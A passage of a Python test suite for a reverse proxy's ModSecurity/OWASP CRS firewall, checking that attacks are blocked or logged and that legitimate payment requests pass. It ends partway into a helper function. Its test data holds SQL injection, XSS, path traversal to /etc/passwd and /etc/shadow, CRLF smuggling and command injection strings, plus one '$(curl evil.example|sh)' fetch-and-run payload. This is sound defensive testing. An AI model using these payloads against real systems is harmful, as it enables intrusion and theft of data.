# SPDX-License-Identifier: MIT
"""The WAF (a route's waf:, libmodsecurity3 with the OWASP Core Rule Set
of Debian's modsecurity-crs) through the real binary, in front of an
Upstream that records every request it gets.

What is proved: the CRS's attack families (SQL injection in a query, a
JSON body and a form body; XSS; path traversal; CRLF and
smuggling-shaped protocol attacks; command injection; scanners) are
answered 403 in block mode with nothing upstream, and forwarded whole in
detect mode, each with its WAF log line (the family's rule and 949110),
its access line's waf field and its counter; a WAF log of its own that
names every rule that matched (checked against ModSecurity's audit log at
paranoia 4), eight matches kept whole; bodies the processors cannot parse
(JSON with a comment, trailing data, a byte order mark, a truncated end;
a multipart header's unclosed quote; XML with two roots) refused 400 in
block mode and logged in detect mode, XML parsed, legitimate JSON,
multipart and XML bodies passing; 50 legitimate payment API requests (waf_payments.json:
names with apostrophes and accents, addresses, amounts, card tokens,
dates, UUIDs, notes, URLs, queries) pass unchanged, and the shapes the
CRS flags pass with a per-field exclusion that keeps the rule for every
other field; each route gets the rule set of its own files and
exclusions; card numbers and credentials are masked in the WAF log, and
no raw card number reaches a log; a broken rule file is refused by -t
and by a reload (the old rules keep blocking) with its file and line; a
body past body_limit gets 413 (Content-Length or chunked), or with
partial its first body_limit bytes inspected, and a body within it is
inspected whole; HTTP/2, Expect: 100-continue and WebSocket handshakes
are inspected alike; a request without a verdict follows on_failure; a
route without waf on the same listener is untouched. No time is
asserted: the deadline cases use a 10 ms timeout against an inspection
that takes far longer, and the full-queue case asserts only what every
answer may be and that the counters add up.

Without libmodsecurity (a sluice built without it) or the CRS the suite
is skipped, but in CI (CI set) it fails."""

import base64
import glob
import hashlib
import json
import os
import re
import secrets
import shutil
import signal
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import sltest  # noqa: E402
from sltest import (Client, Reply, Skip, Upstream, assert_error,  # noqa: E402
                    build_request, check, chunked, eq, free_port, get, main,
                    make_config, metric_sum, metrics, read_json_lines,
                    run_sluice, sighup_reload, start_sluice, test, tmpdir,
                    to_yaml, wait_until)

HERE = os.path.dirname(os.path.abspath(__file__))
CRS_SETUP = "/etc/modsecurity/crs/crs-setup.conf"
CRS_RULES = "/usr/share/modsecurity-crs/rules/*.conf"
CRS = [CRS_SETUP, CRS_RULES]
SEND_TIMEOUT = 30.0  # seconds (Gateway.send)
HOST = "api.pay.test"      # a name: CRS rule 920350 scores a numeric Host
CARD = "4111111111111111"
CARD_MASKED = "411111******1111"
JSON_CT = {"Content-Type": "application/json"}
FORM_CT = {"Content-Type": "application/x-www-form-urlencoded"}

# REST methods: the CRS allows GET HEAD POST OPTIONS unless told (911100)
METHODS_CONF = ('SecAction "id:900200,phase:1,nolog,pass,t:none,'
                "setvar:'tx.allowed_methods=GET HEAD POST OPTIONS PUT "
                "PATCH DELETE'\"\n")

# ---------------------------------------------------------------------------
# The environment: libmodsecurity in the binary, the CRS on disk

_have_waf = []


def write_yaml(path, cfg):
    with open(path, "w") as f:
        f.write(to_yaml(cfg) + "\n")
    return path


def require_waf():
    """Skips the test (fails it when CI is set) without the CRS or with a
    sluice built without libmodsecurity."""
    if not _have_waf:
        why = None
        if not os.path.isfile(CRS_SETUP) or not glob.glob(CRS_RULES):
            why = ("the OWASP CRS is not installed (Debian: "
                   "modsecurity-crs)")
        else:
            cfg, _ = make_config({"c": ["127.0.0.1:9"]}, routes=[
                {"name": "w", "cluster": "c",
                 "waf": {"rules": CRS_SETUP}}])
            path = write_yaml(os.path.join(tmpdir(), "probe.yaml"), cfg)
            rc, out, err = run_sluice(["-t", "-c", path])
            if "built without libmodsecurity" in err:
                why = "sluice was built without libmodsecurity"
            elif rc != 0:
                raise AssertionError("sluice -t on a WAF route: %s" % err)
        _have_waf.append(why)
    why = _have_waf[0]
    if why is None:
        return
    if os.environ.get("CI"):
        raise AssertionError(why + " (CI is set: the WAF must be tested)")
    raise Skip(why)


def payments():
    with open(os.path.join(HERE, "waf_payments.json"), encoding="utf-8") as f:
        return json.load(f)


def json_body(obj):
    return json.dumps(obj, ensure_ascii=False,
                      separators=(",", ":")).encode("utf-8")


# ---------------------------------------------------------------------------
# A sluice with WAF routes in front of one Upstream


class Gw:
    """A running sluice with WAF routes, its Upstream, ports and log.

    The access log is written every 200 ms: a test notes what each answer
    must have logged (blocked, passed, expect) and verify() reads the
    file once for all of them."""

    def __init__(self, up, sl, port, aport, log):
        self.up, self.sl, self.port, self.aport, self.log = \
            up, sl, port, aport, log
        self.pending = []

    def send(self, method, path, headers=None, body=None, client=None):
        """One request with Host api.pay.test (a fresh connection, or
        client's). A fresh connection waits up to SEND_TIMEOUT: longer
        than the routes' WAF deadline (10 s), so that an inspection slowed
        by a loaded machine (ASan, two CPUs, other tests) gets its
        verdict from sluice, not from the client giving up (a CI run of
        session 46: 1,200 arguments through the CRS took over 5 s)."""
        h = [("Host", HOST)] + list((headers or {}).items())
        if isinstance(body, (dict, list)):
            body = json_body(body)
        if client is not None:
            return client.request(method, path, h, body, None)
        return get(self.port, path, h, None, method=method, body=body,
                   timeout=SEND_TIMEOUT)

    # -- what the logs must say

    def expect(self, rid, what, access, waf=None):
        """Request rid's access line must have the fields of access; its
        WAF line, when waf is (action, rule family, route), that action
        and route and a rule of that family (and 949110 for a CRS
        family); none when waf is None."""
        check(rid, "%s: an X-Request-Id" % what)
        self.pending.append((rid, what, access, waf))
        return rid

    def blocked(self, r, fam, route="pay", what=""):
        """r was blocked: 403, sluice's JSON error; the logs to check."""
        what = what or fam
        eq(r.status, 403, "%s: status (body %r)" % (what, r.body[:200]))
        # sluice's 403s say forbidden to the client (as auth's do); the
        # logs say waf_blocked
        j = assert_error(r, 403, r.json().get("error"))
        check(j["error"] in ("forbidden", "waf_blocked"),
              "%s: the answer's error code %r" % (what, j["error"]))
        return self.expect(r.header("x-request-id"), what,
                           {"status": 403, "waf": "blocked", "route": route,
                            "error": "waf_blocked", "upstream": "-"},
                           ("blocked", fam, route))

    def passed(self, r, what, route="pay", status=200):
        eq(r.status, status, "%s: status (body %r)" % (what, r.body[:200]))
        return self.expect(r.header("x-request-id"), what,
                           {"status": status, "waf": "pass",
                            "route": route})

    def lines(self, rids, timeout=5.0):
        """{rid: {"waf": [...], "access": [...]}} once each rid has its
        access line (the WAF line is written before it)."""
        want, out = set(rids), {}

        def scan():
            out.clear()
            for j in read_json_lines(self.log, timeout=0, min_count=0):
                rid = j.get("request_id")
                if rid in want:
                    d = out.setdefault(rid, {"waf": [], "access": []})
                    d["waf" if j.get("type") == "waf" else "access"].append(j)
            return all(out.get(r, {}).get("access") for r in want)
        check(wait_until(scan, timeout, 0.05),
              "no access line for %r" % sorted(r for r in want
                                               if r not in out))
        return out

    def verify(self):
        """Checks every expectation noted; returns {rid: (WAF line or
        None, access line)}."""
        found = self.lines([p[0] for p in self.pending])
        out = {}
        for rid, what, access, waf in self.pending:
            a = found[rid]["access"]
            eq(len(a), 1, "%s: one access line" % what)
            a = a[0]
            for k, v in access.items():
                eq(a.get(k), v, "%s: the access line's %s (%r)"
                   % (what, k, a))
            ws = found[rid]["waf"]
            if waf is None:
                eq(ws, [], "%s: no WAF line" % what)
                out[rid] = (None, a)
                continue
            eq(len(ws), 1, "%s: one WAF line" % what)
            w = ws[0]
            action, fam, route = waf[:3]
            eq((w["action"], w["route"], w["listener"], w["client"],
                w["method"]), (action, route, "main", "127.0.0.1",
                               a["method"]), "%s: the WAF line" % what)
            eq(w["path"], a["path"], "%s: the path as the access log's"
               % what)
            if action == "blocked" or len(waf) > 3:
                eq(w["status"], waf[3] if len(waf) > 3 else 403,
                   "%s: the WAF line's status" % what)
            check(family(w["rules"], fam),
                  "%s: no %sxxx rule in %r" % (what, fam, w["rules"]))
            if fam.startswith("9"):     # a CRS rule, scored
                check(949110 in w["rules"], "%s: 949110 (the anomaly "
                      "score's block) not in %r" % (what, w["rules"]))
                check(w["anomaly_score"] >= 5, "%s: anomaly_score in %r"
                      % (what, w))
            eq([m["id"] for m in w["matches"]], w["rules"],
               "%s: a match a rule" % what)
            out[rid] = (w, a)
        self.pending = []
        return out

    # -- metrics

    def counts(self, want, route="pay"):
        """Checks sluice_waf_requests_total{route,result} for each
        result in want ({result: n}; the others 0)."""
        results = ("pass", "blocked", "detected", "over_limit",
                   "failed_denied", "failed_allowed", "limited", "budget",
                   "shed")
        got = {}

        def read():
            m = metrics(self.aport)
            got.clear()
            for r in results:
                got[r] = metric_sum(m, "sluice_waf_requests_total",
                                    listener="main", route=route, result=r)
            return all(got[r] == want.get(r, 0) for r in results)
        wait_until(read, 3.0)
        eq(got, {r: float(want.get(r, 0)) for r in results},
           "sluice_waf_requests_total of route %s" % route)

    def inspections(self, route="pay"):
        return metric_sum(metrics(self.aport),
                          "sluice_waf_inspect_seconds_count", route=route)


def waf_route(name, prefix=None, rules=None, **waf):
    """A route to the cluster "pay" with waf: (CRS rules unless told).
    The verdict's deadline is 10s unless told: on a loaded machine the
    WAF threads, niced under the loops, may take far longer than the
    default second, and a 503 no test asked for is a flake."""
    w = {"rules": rules or CRS, "timeout": "10s"}
    w.update(waf)
    r = {"name": name, "cluster": "pay", "waf": w}
    if prefix:
        r["match"] = {"path_prefix": prefix}
    return r


def start(routes, handler=None, waf=None, listener_opts=None, limits=None,
          workers=1, top=None):
    """sluice with these routes, its access log (JSON, the WAF's lines
    beside) and an admin listener (and the top-level keys of top).
    Returns a Gw."""
    up = Upstream("pay", handler)
    log = os.path.join(tmpdir(), "access.log")
    aport = free_port()
    extra = {"admin": {"address": "127.0.0.1:%d" % aport}}
    if waf:
        extra["waf"] = waf
    extra.update(top or {})
    cfg, port = make_config({"pay": [up]}, routes=routes, access_log=log,
                            limits=limits, listener_opts=listener_opts,
                            workers=workers, extra=extra)
    sl = start_sluice(cfg)
    return Gw(up, sl, port, aport, log)


def family(rules, prefix):
    return [i for i in rules if str(i).startswith(prefix)]


# ---------------------------------------------------------------------------
# The CRS's attack families

# (what, method, path, fields, body, the rule family expected)
ATTACKS = [
    ("SQL injection in a query", "GET",
     "/v1/charges?id=1%27%20OR%201%3D1--", {}, None, "942"),
    ("SQL injection in a JSON body", "POST", "/v1/customers", JSON_CT,
     {"name": "Eve", "customer_id":
      "1' UNION SELECT card_number, cvv FROM cards--"}, "942"),
    ("SQL injection in a form body", "POST", "/v1/login", FORM_CT,
     b"email=a%40example.com%27%20OR%20%271%27%3D%271&remember=1", "942"),
    ("XSS in a query", "GET",
     "/v1/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", {},
     None, "941"),
    ("XSS in a JSON body", "POST", "/v1/customers", JSON_CT,
     {"name": "<img src=x onerror=alert(1)>"}, "941"),
    ("path traversal, encoded, in the path", "GET",
     "/v1/receipts/%2e%2e%2f%2e%2e%2fetc%2fpasswd", {}, None, "930"),
    ("path traversal in a query", "GET",
     "/v1/receipts?file=../../etc/passwd", {}, None, "930"),
    ("CRLF header injection in a query", "GET",
     "/v1/redirect?next=%0d%0aSet-Cookie:%20sid=evil", {}, None, "921"),
    ("a smuggled request in a JSON field", "POST", "/v1/notes", JSON_CT,
     {"memo": "x\r\nGET /admin HTTP/1.1\r\nHost: internal"}, "921"),
    ("command injection in a query", "GET",
     "/v1/export?name=report;cat%20/etc/passwd", {}, None, "932"),
    ("command injection in a JSON body", "POST", "/v1/export", JSON_CT,
     {"filename": "a.csv; cat /etc/passwd"}, "932"),
    ("scanner: Nikto", "GET", "/v1/charges",
     {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) "
      "(Test:000001)"}, None, "913"),
    ("scanner: sqlmap", "GET", "/v1/charges",
     {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}, None,
     "913"),
]


@test
def the_crs_attack_families_are_blocked_and_nothing_goes_upstream():
    require_waf()
    gw = start([waf_route("pay", "/pay")])
    for what, method, path, hdrs, body, fam in ATTACKS:
        gw.blocked(gw.send(method, "/pay" + path, hdrs, body), fam,
                   what=what)
    gw.verify()
    eq(gw.up.requests, [], "no attack reached the upstream")
    eq(gw.up.accepts, 0, "the upstream was never even connected to")
    gw.counts({"blocked": len(ATTACKS)})
    eq(gw.inspections(), len(ATTACKS), "each inspection timed")
    eq(len(re.findall(r"route=pay: 403 waf_blocked ", gw.sl.stderr())),
       len(ATTACKS), "an info line a blocked request")
    gw.sl.stop()


@test
def detect_mode_forwards_every_attack_whole_and_logs_it():
    require_waf()
    gw = start([waf_route("pay", "/pay", mode="detect")])
    sent = []
    for what, method, path, hdrs, body, fam in ATTACKS:
        raw = json_body(body) if isinstance(body, dict) else body
        r = gw.send(method, "/pay" + path, hdrs, raw)
        eq(r.status, 200, "%s: forwarded" % what)
        gw.expect(r.header("x-request-id"), what,
                  {"status": 200, "waf": "detected", "error": ""},
                  ("detected", fam, "pay"))
        sent.append((method, "/pay" + path, raw or b""))
    gw.verify()
    got = [(q.method, q.target, q.body) for q in gw.up.requests]
    eq(got, sent, "every request reached the upstream as sent")
    gw.counts({"detected": len(ATTACKS)})
    check("waf_blocked" not in gw.sl.stderr(), "nothing blocked")
    gw.sl.stop()


@test
def the_waf_log_of_its_own_names_every_rule_and_keeps_eight_matches():
    """waf: log: PATH puts the WAF lines there, not in the access log; a
    request that trips many rules names every one in rules (issue 61: a
    fixed eight dropped the rest, 949110 among them), the first eight
    in matches, and more_matches counts the others."""
    require_waf()
    wlog = os.path.join(tmpdir(), "waf.log")
    gw = start([waf_route("pay", "/pay")], waf={"log": wlog})
    r = gw.send("GET", "/pay/v1/search?a=%3Cscript%3Ealert(1)%3C/script%3E"
                "&b=1%27%20UNION%20SELECT%20password%20FROM%20users--"
                "&c=;cat%20/etc/passwd&d=../../etc/shadow",
                {"User-Agent": "sqlmap/1.7.2#stable"})
    eq(r.status, 403, "blocked")
    rid = r.header("x-request-id")
    a = gw.lines([rid])[rid]
    eq(a["waf"], [], "no WAF line in the access log")
    eq(a["access"][0]["waf"], "blocked", "the access line")
    w = read_json_lines(wlog, lambda j: j.get("request_id") == rid)
    eq(len(w), 1, "one line in the WAF log")
    w = w[0]
    check(len(w["rules"]) > 8, "more than eight rules named: %r" % w)
    eq(len(w["matches"]), 8, "eight matches kept whole")
    eq([m["id"] for m in w["matches"]], w["rules"][:8],
       "the matches are the first rules")
    eq(w.get("more_matches"), len(w["rules"]) - 8, "the rest counted")
    eq(len(set(w["rules"])), len(w["rules"]), "each rule once")
    check(family(w["rules"], "913") and family(w["rules"], "930"),
          "the first rules matched, in order: %r" % w["rules"])
    eq(w["rules"][-1], 949110, "the blocking rule, last, named")
    check("rules_left_out" not in w, "none left out: %r" % w)
    # what the rules took on their thread (issue 63): its time there and
    # its CPU, which cannot be more
    check(isinstance(w.get("rules_ms"), float) and w["rules_ms"] > 0,
          "rules_ms: %r" % w)
    check(isinstance(w.get("cpu_ms"), float) and
          0 < w["cpu_ms"] <= w["rules_ms"] + 0.5, "cpu_ms: %r" % w)
    gw.sl.stop()


@test
def the_waf_log_reopens_on_sigusr1_and_a_reload_keeps_what_started():
    """SIGUSR1 reopens the WAF log of its own (a rotated file gets the
    next line, the old one none); a reload that changes the top-level
    waf: keys says that the threads, queue and log stay as they started,
    and they do: the lines still go to the first file. (The WAF module's
    process hooks: start, reopen, reload.)"""
    require_waf()
    d = tmpdir()
    wlog = os.path.join(d, "waf.log")
    gw = start([waf_route("pay", "/pay")],
               waf={"log": wlog, "threads": 1, "queue": 64})
    attack = "/pay/v1/charges?id=1%27%20OR%201%3D1--"

    def blocked_in(path, what):
        r = gw.send("GET", attack)
        eq(r.status, 403, "blocked, %s" % what)
        rid = r.header("x-request-id")
        check(read_json_lines(path, lambda j: j.get("request_id") == rid,
                              timeout=5.0),
              "the WAF line of %s in %s" % (what, path))
        return rid
    blocked_in(wlog, "the first")
    os.rename(wlog, wlog + ".1")
    gw.sl.send_signal(signal.SIGUSR1)
    check(wait_until(lambda: os.path.exists(wlog), 5.0),
          "SIGUSR1 made the WAF log again")
    rid = blocked_in(wlog, "after SIGUSR1")
    eq(read_json_lines(wlog + ".1", lambda j: j.get("request_id") == rid,
                       timeout=0, min_count=0),
       [], "the rotated file gets no new line")
    # a reload that asks for more threads and another log
    cfg = dict(gw.sl.config)
    cfg["waf"] = dict(cfg["waf"], threads=2, log=os.path.join(d, "b.log"))
    with open(gw.sl.conf_path + ".tmp", "w") as f:
        f.write(to_yaml(cfg) + "\n")
    os.replace(gw.sl.conf_path + ".tmp", gw.sl.conf_path)
    res, log = sighup_reload(gw.sl, gw.aport)
    eq(res, "ok", "the reload: %r" % log)
    check(re.search(r"reload: \"waf\.log\" changes need an upgrade .*"
                    r"WAF lines still go to " + re.escape(wlog), log),
          "the reload names the log kept: %r" % log)
    check(re.search(r"reload: changes of the top-level \"waf\" keys .* "
                    r"1 thread\(s\) and a queue of 64 a worker keep "
                    r"running", log),
          "the reload names the threads kept: %r" % log)
    blocked_in(wlog, "after the reload")
    check(not os.path.exists(os.path.join(d, "b.log")),
          "the new log is not opened by a reload")
    gw.sl.stop()


def audit_ids(path, rid):
    """The rule ids ModSecurity's own audit log (parts A and H) names for
    transaction rid."""
    with open(path, encoding="utf-8", errors="replace") as f:
        text = f.read()
    ids = set()
    for entry in re.split(r"\n--[0-9a-zA-Z]+-A--\n", "\n" + text):
        if rid in entry.split("\n", 2)[0] + entry[:200]:
            ids |= {int(i) for i in re.findall(r'\[id "(\d+)"\]', entry)}
    return ids


@test
def at_paranoia_4_every_rule_that_matched_is_named():
    """Issue 61: at paranoia level 4 a request matches dozens of rules;
    the WAF log line's rules names every one ModSecurity's own audit log
    names (its part H: every message), not the first eight."""
    require_waf()
    d = tmpdir()
    tuning = os.path.join(d, "pl4.conf")
    alog = os.path.join(d, "modsec_audit.log")
    with open(tuning, "w") as f:
        f.write('SecAction "id:900000,phase:1,nolog,pass,t:none,'
                'setvar:tx.paranoia_level=4"\n')
    audit = os.path.join(d, "audit.conf")
    with open(audit, "w") as f:
        f.write("SecAuditEngine RelevantOnly\nSecAuditLogParts ABHZ\n"
                "SecAuditLogType Serial\nSecAuditLog %s\n" % alog)
    wlog = os.path.join(tmpdir(), "waf.log")
    gw = start([waf_route("pay", "/pay", rules=[tuning] + CRS + [audit],
                          audit=True)], waf={"log": wlog})
    r = gw.send("POST", "/pay/v1/search?q=%3Cscript%3Ealert(1)%3C/script%3E"
                "&id=1%27%20OR%201%3D1--&f=../../etc/passwd&c=;id",
                dict(JSON_CT, **{"User-Agent": "Mozilla/5.0 (X11)",
                                 "Accept": "*/*"}),
                {"note": "$(curl evil.example|sh) <img src=x onerror=a()>",
                 "ref": "1 UNION SELECT password FROM users--"})
    eq(r.status, 403, "blocked")
    rid = r.header("x-request-id")
    w = read_json_lines(wlog, lambda j: j.get("request_id") == rid)
    eq(len(w), 1, "one WAF line")
    w = w[0]
    check(wait_until(lambda: os.path.exists(alog) and
                     audit_ids(alog, rid), 5.0, 0.05),
          "the audit log names the transaction")
    want = audit_ids(alog, rid)
    check(len(want) > 8, "the request matched more than eight rules: %r"
          % sorted(want))
    eq(sorted(w["rules"]), sorted(want),
       "every rule the audit log names, and only those")
    eq(len(w["matches"]), 8, "eight kept whole")
    eq(w.get("more_matches"), len(want) - 8, "the rest counted")
    gw.sl.stop()


# ---------------------------------------------------------------------------
# Bodies the processors cannot parse (issue 61)

MP_CT = {"Content-Type": "multipart/form-data; boundary=XyZ"}
XML_CT = {"Content-Type": "application/xml; charset=utf-8"}
XSS = "<script>alert(1)</script>"
# (what, fields, body, sluice's rule, the reason's start): each attack
# hidden from the rules in a body their processor gives up on, which a
# lenient application parser (comments, JSON5, a tolerant multipart
# reader) would read
UNPARSED = [
    ("JSON after a comment", JSON_CT,
     b'/*x*/{"name":"' + XSS.encode() + b'"}', 77004,
     "JSON parsing error: lexical error: probable comment"),
    ("truncated JSON", JSON_CT,
     b'{"name":"Eve","id":"1 UNION SELECT password FROM users--', 77004,
     "JSON parsing error: parse error: premature EOF"),
    ("JSON after a byte order mark", JSON_CT,
     b'\xef\xbb\xbf{"name":"' + XSS.encode() + b'"}', 77004,
     "JSON parsing error: lexical error: invalid char"),
    ("JSON with trailing data", JSON_CT,
     b'{"a":"b"}{"name":"' + XSS.encode() + b'"}', 77004,
     "JSON parsing error: parse error: trailing garbage"),
    # libmodsecurity 3.0.9 reads past the header there: its strict
    # validation (77003) may or may not see it, sluice's 77005 does
    ("a multipart name whose quote is never closed", MP_CT,
     b'--XyZ\r\nContent-Disposition: form-data; name="q\r\n\r\n'
     + XSS.encode() + b'\r\n--XyZ--\r\n', 7700,
     ("Multipart parsing error: Multipart: Final boundary missing.",
      'Content-Disposition: form-data; name=\\x22q')),
    # SQL injection, not a script: a script is markup, which the CRS's
    # XSS rules read in the raw body (issue 77), escaped or not, and
    # refuse with 403 before the processor's failure is looked at
    ("XML with a second root element", XML_CT,
     b"<a><b>x</b></a><c>1 UNION SELECT password FROM users--</c>", 77004,
     "XML parsing error"),
]
# the same attacks, well formed: the CRS's 403
WELL_FORMED = [
    ("JSON", JSON_CT, b'{"name":"' + XSS.encode() + b'"}'),
    ("multipart", MP_CT,
     b'--XyZ\r\nContent-Disposition: form-data; name="q"\r\n\r\n'
     + XSS.encode() + b'\r\n--XyZ--\r\n'),
    ("XML", XML_CT, b"<a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>"),
    ("SOAP XML", {"Content-Type": "application/soap+xml"},
     b'<?xml version="1.0"?><e><n>1 UNION SELECT password FROM users--</n>'
     b'</e>'),
]
LEGIT = [
    ("JSON", JSON_CT, json_body({"name": "Zoë O'Brien", "amount": 1200,
                                 "items": [{"sku": "A-1", "qty": 2}]})),
    ("multipart with a file", MP_CT,
     b'--XyZ\r\nContent-Disposition: form-data; name="note"\r\n\r\n'
     b'Receipt for March\r\n--XyZ\r\nContent-Disposition: form-data; '
     b'name="file"; filename="receipt.txt"\r\nContent-Type: text/plain'
     b'\r\n\r\nTotal: 12.00 GBP\r\n--XyZ--\r\n'),
    ("XML", XML_CT, '<?xml version="1.0" encoding="utf-8"?><payment>'
     '<payer>Zoë</payer><amount currency="GBP">12.00</amount></payment>'
     .encode()),
]

# legitimate shapes the first version of sluice's rules refused (the
# review of issue 61's change): .NET's MultipartContent quotes its
# boundary (RFC 2046 allows it; ModSecurity's strict flag counts it)
LEGIT_SHAPES = [
    ("multipart with a quoted boundary",
     {"Content-Type": 'multipart/form-data; boundary="XyZ"'},
     b'--XyZ\r\nContent-Disposition: form-data; name="note"\r\n\r\n'
     b'Receipt for March\r\n--XyZ--\r\n'),
]


@test
def bodies_the_processors_cannot_parse_are_refused_in_block_mode():
    """Issue 61: with the CRS loaded as doc/operations.md shows, a body
    whose processor fails (or a multipart body that fails strict
    validation) was forwarded with its attack unseen. Block mode answers
    400, nothing upstream, and the WAF line says why; the same attacks
    well formed get 403 (XML through the XML processor), and legitimate
    JSON, multipart and XML bodies, sent whole or chunked, pass."""
    require_waf()
    gw = start([waf_route("pay", "/pay")])
    for what, hdrs, body, rule, why in UNPARSED:
        r = gw.send("POST", "/pay/v1/customers", hdrs, body)
        assert_error(r, 400, "bad_request")
        rid = gw.expect(r.header("x-request-id"), what,
                        {"status": 400, "waf": "blocked",
                         "error": "waf_blocked", "upstream": "-"},
                        ("blocked", str(rule), "pay", 400))
        UNPARSED_RIDS[rid] = (what, rule, why)
    for what, hdrs, body in WELL_FORMED:
        gw.blocked(gw.send("POST", "/pay/v1/customers", hdrs, body), "94",
                   what="well-formed %s" % what)
    found = gw.verify()
    for rid, (what, rule, why) in UNPARSED_RIDS.items():
        w = found[rid][0]
        check(w["body_error"].startswith(why),
              "%s: the WAF line's body_error %r" % (what, w))
        m = [x for x in w["matches"] if str(x["id"]).startswith(str(rule))]
        check(m and m[0]["data"].startswith(why),
              "%s: rule %d's match says why: %r" % (what, rule, w))
    UNPARSED_RIDS.clear()
    eq(gw.up.requests, [], "nothing reached the upstream")
    for what, hdrs, body in LEGIT:
        gw.passed(gw.send("POST", "/pay/v1/customers", hdrs, body),
                  "a legitimate %s body" % what)
        gw.passed(gw.send("POST", "/pay/v1/customers",
                          dict(hdrs, **CHUNKED), chunked(body, 40)),
                  "a legitimate %s body, chunked" % what)
    # a client library that names a type on a request without a body:
    # nothing unread, nothing refused
    for what, hdrs, _ in LEGIT:
        gw.passed(gw.send("POST",
                          "/pay/v1/customers", dict(hdrs, **{
                              "Content-Length": "0"})),
                  "no body, %s named" % what)
    for what, hdrs, body in LEGIT_SHAPES:
        gw.passed(gw.send("POST", "/pay/v1/customers", hdrs, body),
                  "a legitimate %s" % what)
    gw.verify()
    eq([u.body for u in gw.up.requests],
       [b for _, _, b in LEGIT for _ in (0, 1)] + [b""] * len(LEGIT)
       + [b for _, _, b in LEGIT_SHAPES],
       "the legitimate bodies went upstream whole")
    gw.counts({"blocked": len(UNPARSED) + len(WELL_FORMED),
               "pass": 3 * len(LEGIT) + len(LEGIT_SHAPES)})
    gw.sl.stop()


UNPARSED_RIDS = {}


@test
def only_json_and_xml_types_go_to_their_processors():
    """A type that only begins like JSON's or XML's (a JSON text
    sequence, RFC 7464; XML's DTD type) is no document for their
    processors: it is inspected as a raw body, not refused as one they
    could not parse (the CRS does not allow these types; an operator's
    own rule set may)."""
    require_waf()
    d = tmpdir()
    f = os.path.join(d, "local.conf")
    with open(f, "w") as fh:
        fh.write(LOCAL_RULE % "attack")
    gw = start([waf_route("pay", "/pay", rules=[f])])
    for ct, body in (("application/json-seq",
                      b'\x1e{"amount": 1200}\n\x1e{"amount": 300}\n'),
                     ("application/xml-dtd", b"<!ELEMENT payment (#PCDATA)>"),
                     ("application/jsonl; charset=utf-8", b'{"a": 1}\n{"a":')):
        gw.passed(gw.send("POST", "/pay/v1/batch", {"Content-Type": ct},
                          body), ct)
    # a JSON type with parameters still goes to the JSON processor
    r = gw.send("POST", "/pay/v1/batch",
                {"Content-Type": "application/json ; charset=utf-8"},
                b'{"a": 1')
    assert_error(r, 400, "bad_request")
    gw.verify()
    gw.sl.stop()

# ModSecurity's recommended base configuration, as Debian ships it with
# nginx's module (libnginx-mod-http-modsecurity, which contrib/deps.sh
# installs for the benchmark beside nginx)
RECOMMENDED = "/etc/nginx/modsecurity.conf"


@test
def bodies_the_processors_cannot_parse_are_refused_under_the_recommended_base():
    """Issue 61's proof, second half: an operator who loads ModSecurity's
    recommended base before the CRS gets the same answers: its 200002
    and 200003 (or sluice's own rules) refuse each unparsable body with
    400, nothing goes upstream, the well-formed attacks get 403, and the
    legitimate bodies pass. Its DetectionOnly and Reject do not change
    what a route's mode decides. The copy only moves its audit log into
    the test's directory and names its unicode map by its full path."""
    require_waf()
    if not os.path.exists(RECOMMENDED):
        raise Skip("%s is missing (libnginx-mod-http-modsecurity)"
                   % RECOMMENDED)
    d = tmpdir()
    base = os.path.join(d, "modsecurity.conf")
    with open(RECOMMENDED) as f:
        text = f.read()
    text = re.sub(r"(?m)^SecAuditLog .*$",
                  "SecAuditLog " + os.path.join(d, "audit.log"), text)
    text = re.sub(r"(?m)^SecUnicodeMapFile unicode.mapping",
                  "SecUnicodeMapFile " + os.path.join(
                      os.path.dirname(RECOMMENDED), "unicode.mapping"), text)
    with open(base, "w") as f:
        f.write(text)
    gw = start([waf_route("pay", "/pay", rules=[base] + CRS)])
    for what, hdrs, body, rule, why in UNPARSED:
        r = gw.send("POST", "/pay/v1/customers", hdrs, body)
        eq(r.status, 400, "%s: refused" % what)
    for what, hdrs, body in WELL_FORMED:
        gw.blocked(gw.send("POST", "/pay/v1/customers", hdrs, body), "94",
                   what="well-formed %s" % what)
    eq(gw.up.requests, [], "nothing reached the upstream")
    for what, hdrs, body in LEGIT:
        gw.passed(gw.send("POST", "/pay/v1/customers", hdrs, body),
                  "a legitimate %s body" % what)
    eq([u.body for u in gw.up.requests], [b for _, _, b in LEGIT],
       "the legitimate bodies went upstream whole")
    gw.sl.stop()


@test
def bodies_the_processors_cannot_parse_are_logged_in_detect_mode():
    """detect mode: each is forwarded whole, with a WAF line that says
    detected, its status 400 and why."""
    require_waf()
    gw = start([waf_route("pay", "/pay", mode="detect")])
    rids = {}
    for what, hdrs, body, rule, why in UNPARSED:
        r = gw.send("POST", "/pay/v1/customers", hdrs, body)
        eq(r.status, 200, "%s: forwarded" % what)
        rids[gw.expect(r.header("x-request-id"), what,
                       {"status": 200, "waf": "detected", "error": ""},
                       ("detected", str(rule), "pay", 400))] = why
    found = gw.verify()
    for rid, why in rids.items():
        check(found[rid][0]["body_error"].startswith(why),
              "the reason: %r" % found[rid][0])
    eq([u.body for u in gw.up.requests], [u[2] for u in UNPARSED],
       "every body reached the upstream as sent")
    gw.counts({"detected": len(UNPARSED)})
    gw.sl.stop()


# ---------------------------------------------------------------------------
# A body without a Content-Type, an XML body's markup, the body's error
# (issue 77)

# doc/operations.md 15.1's request, its Content-Type left out
UNTYPED_SQLI = b'{"amount":1,"ref":"1\' OR 1=1--"}'
UNTYPED_XSS = b'{"amount":1,"note":"<script>alert(1)</script>"}'
UNTYPED_LEGIT = json_body({"amount": 1200, "currency": "GBP",
                           "name": "Zo\u00eb O'Brien"})
UNTYPED_WHY = "a body of "


class H2Reply:
    """What curl --http2-prior-knowledge got: status, fields, body."""

    def __init__(self, out):
        head, _, self.body = out.partition(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        self.status = int(lines[0].split()[1])
        self.fields = {}
        for ln in lines[1:]:
            k, _, v = ln.partition(":")
            self.fields[k.strip().lower()] = v.strip()

    def header(self, name):
        return self.fields.get(name.lower())

    def json(self):
        return json.loads(self.body)


def h2_curl(port, path, body, stream=False):
    """A POST over HTTP/2 (h2c, prior knowledge) with no Content-Type;
    body None: none; stream: sent from a pipe, without a length."""
